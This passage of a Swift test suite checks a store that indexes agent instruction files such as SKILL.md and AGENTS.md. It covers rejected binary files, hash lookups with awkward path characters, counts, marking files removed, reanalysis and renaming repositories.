            FileDiagnostic(path: "bin/AGENTS.md", code: .binary, severity: .error, message: "binary", line: 1))
        _ = try store.write(repositories: [], files: [record], seenAt: seenAt)
        let stats = try store.stats()
        #expect(stats.rejected == 1 && stats.indexed == 0)
        #expect(stats.rejectedByReason["binary"] == 1)
        let file = try #require(try store.file(.key(record.key)))
        #expect(file.status == .rejected && file.diagnostics.first?.code == .binary)
        #expect(try store.storedHashes(of: [record.key])[record.key]?.status == .rejected)
    }

    /// The listed keys that are stored, and those alone, whatever their paths hold (an engine may send them as an
    /// array literal, where quotes, backslashes, commas and braces are syntax).
    public static func storedHashesAnswerTheListedKeys(_ store: any Store) throws {
        let paths = [
            "a/SKILL.md", "quote\"d/SKILL.md", "back\\slash/SKILL.md", "comma,{brace}/SKILL.md", "sp ace/CLAUDE.md",
            "ünï/AGENTS.md",
        ]
        var records = paths.map { Fixtures.record("acme/skills", $0, "# \($0)\n\n- Always run the tests.\n") }
        records.append(Fixtures.record("other/repo", "AGENTS.md", "- Keep the diff small.\n"))
        var rejected = Fixtures.record("other/repo", "bin/AGENTS.md", "x")
        rejected.outcome = .rejected(
            FileDiagnostic(path: "bin/AGENTS.md", code: .binary, severity: .error, message: "binary", line: 1))
        records.append(rejected)
        // Others, so that a few keys are few against the registry's files (an engine may look them up one by one,
        // and read every file for many).
        let others = (0..<48).map {
            Fixtures.record("filler/repo", "f\($0)/AGENTS.md", "- Rule \($0) of the filler.\n")
        }
        _ = try store.write(repositories: [], files: records + others, seenAt: seenAt)
        let missing = [
            FileKey(repository: "acme/skills", path: "b/SKILL.md"),
            FileKey(repository: "nobody/here", path: "a/SKILL.md"),
            FileKey(repository: "acme/skills", path: "A/SKILL.md"),
        ]
        for (asked, expected) in [
            (records.map(\.key) + missing + [records[0].key], records),
            ([records[2].key, rejected.key] + missing, [records[2], rejected]),
            ((records + others).map(\.key), records + others),
        ] {
            let hashes = try store.storedHashes(of: asked)
            #expect(hashes.count == expected.count)
            for record in expected {
                #expect(hashes[record.key]?.sha256 == record.sha256, "\(record.key)")
                #expect(hashes[record.key]?.status == (record.key == rejected.key ? .rejected : .indexed))
            }
            #expect(missing.allSatisfy { hashes[$0] == nil })
        }
        #expect(try store.storedHashes(of: []).isEmpty)
    }

    public static func statsCountKindsAndRules(_ store: any Store) throws {
        _ = try store.write(
            repositories: [],
            files: [
                Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill),
                Fixtures.record("lena/app", "AGENTS.md", Fixtures.agentsFile),
            ], seenAt: seenAt)
        let stats = try store.stats()
        #expect(stats.repositories == 2 && stats.files == 2 && stats.indexed == 2)
        #expect(stats.byKind == ["skill": 1, "agents": 1])
        #expect(stats.rules == 5)
        #expect(stats.schemaVersion >= 1)
        #expect(try store.fileKeys().map(\.key.path) == ["review/SKILL.md", "AGENTS.md"])
    }

    public static func removedFilesAreKeptButLeftOutOfSearchAndVersions(_ store: any Store) throws {
        var review = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        review.blobSHA = String(repeating: "c", count: 40)
        let commit = Fixtures.record("acme/skills", "commit/SKILL.md", Fixtures.commitSkill)
        let copy = Fixtures.record("lena/fork", "review/SKILL.md", Fixtures.reviewSkill)
        _ = try store.write(repositories: [], files: [review, commit, copy], seenAt: seenAt)
        #expect(try store.file(.key(review.key))?.blobSHA == review.blobSHA)
        let copyID = try #require(try store.file(.key(copy.key))).id
        let sequence = try #require(try store.fingerprint(ofFile: copyID))
        #expect(try store.fileIDs(sequenceHash: sequence.sequenceHash).count == 2)
        let removedAt = "2026-12-01T00:00:00Z"
        #expect(try store.markRemoved(repository: "acme/skills", present: ["commit/SKILL.md"], at: removedAt) == 1)
        #expect(try store.markRemoved(repository: "acme/skills", present: ["commit/SKILL.md"], at: "2027") == 0)
        let removed = try #require(try store.file(.key(review.key)))
        #expect(removed.removedAt == removedAt && removed.text == Fixtures.reviewSkill)
        #expect(try store.search(SearchQuery(text: "approve")).hits.map(\.key) == [copy.key])
        #expect(try store.fileIDs(sequenceHash: sequence.sequenceHash) == [copyID])
        #expect(try store.fileIDs(nameKey: "code-review").count == 1)
        #expect(try store.repositoryFiles("acme/skills").map(\.path) == ["commit/SKILL.md"])
        #expect(try store.lineageRecords([removed.id]).isEmpty)
        #expect(try !store.passageIndex().postings.contains(UInt32(removed.id)))
        #expect(try store.indexedFileCount() == 2)
        let stats = try store.stats()
        #expect(stats.removed == 1 && stats.indexed == 2 && stats.rules == 5)
        // Seen again, it is back, with the time it was first seen.
        try store.markSeen([review.key], at: "2026-12-02T00:00:00Z")
        let back = try #require(try store.file(.key(review.key)))
        #expect(back.removedAt == nil && back.firstSeen == seenAt && back.lastSeen == "2026-12-02T00:00:00Z")
        #expect(try store.search(SearchQuery(text: "approve")).total == 2)
        #expect(try store.passageIndex().postings.contains(UInt32(removed.id)))
    }

    /// A repository's whole file list is kept, read back sorted, and not written again when it is the same.
    public static func repositoryPathsAreKeptAndRewrittenOnlyWhenChanged(_ store: any Store) throws {
        #expect(try store.repositoryPaths("acme/app").isEmpty)
        #expect(try store.saveRepositoryPaths("acme/app", ["src/main.ts", "CLAUDE.md", "scripts/release.sh"]))
        #expect(try store.repositoryPaths("acme/app") == ["CLAUDE.md", "scripts/release.sh", "src/main.ts"])
        let generation = try store.blobGeneration("repository-paths/acme/app")
        #expect(try !store.saveRepositoryPaths("acme/app", ["scripts/release.sh", "src/main.ts", "CLAUDE.md"]))
        #expect(try store.blobGeneration("repository-paths/acme/app") == generation)
        #expect(try store.saveRepositoryPaths("acme/app", ["CLAUDE.md"]))
        #expect(try store.repositoryPaths("acme/app") == ["CLAUDE.md"])
        #expect(try store.repositoryPaths("other/app").isEmpty)
    }

    /// A file analysed by an earlier version is written again though its bytes are the same, its new rules
    /// replacing the old; the analysis version of each repository is kept and read back.
    public static func aReanalysedFileIsRewrittenThoughItsBytesAreTheSame(_ store: any Store) throws {
        var record = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        _ = try store.write(repositories: [], files: [record], seenAt: seenAt)
        let fewer = Fixtures.record("acme/skills", "review/SKILL.md", "# Review\n\n- Read the tests first.\n")
        record.outcome = fewer.outcome
        #expect(try store.write(repositories: [], files: [record], seenAt: seenAt).written == 0)
        record.reanalyzed = true
        let summary = try store.write(repositories: [], files: [record], seenAt: "2026-12-01T00:00:00Z")
        #expect(summary.written == 1 && summary.unchanged == 0 && summary.rulesWritten == 1)
        let file = try #require(try store.file(.key(record.key)))
        #expect(try store.rules(ofFile: file.id).map(\.text) == ["Read the tests first."])
        #expect(try store.stats().rules == 1)

        #expect(try store.analysisVersions().isEmpty)
        try store.saveAnalysisVersion(2, of: ["acme/skills", "acme/app"])
        try store.saveAnalysisVersion(3, of: ["acme/app"])
        #expect(try store.analysisVersions() == ["acme/skills": 2, "acme/app": 3])
    }

    public static func aRenamedRepositoryKeepsItsFiles(_ store: any Store) throws {
        let record = Fixtures.record("acme/old", "AGENTS.md", Fixtures.agentsFile)
        _ = try store.write(
            repositories: [RepositoryRecord(fullName: "acme/old", stars: 5)], files: [record], seenAt: seenAt)
        let before = try #require(try store.file(.key(record.key)))
        try store.renameRepository("acme/old", to: "acme/new", at: "2026-12-01T00:00:00Z")
        try store.renameRepository("acme/gone", to: "acme/other", at: "2026-12-01T00:00:00Z")
        let after = try #require(try store.file(.key(FileKey(repository: "acme/new", path: "AGENTS.md"))))
        #expect(after.id == before.id && after.repository.stars == 5 && after.firstSeen == seenAt)
        #expect(try store.file(.key(record.key)) == nil)
        #expect(try store.stats().repositories == 1)
        // Renamed onto a repository already stored: the old files are marked removed, not merged.
        let second = Fixtures.record("acme/older", "AGENTS.md", Fixtures.agentsFile)
        _ = try store.write(repositories: [], files: [second], seenAt: seenAt)
        try store.renameRepository("acme/older", to: "acme/new", at: "2026-12-02T00:00:00Z")
        #expect(try store.file(.key(second.key))?.removedAt == "2026-12-02T00:00:00Z")
    }
}
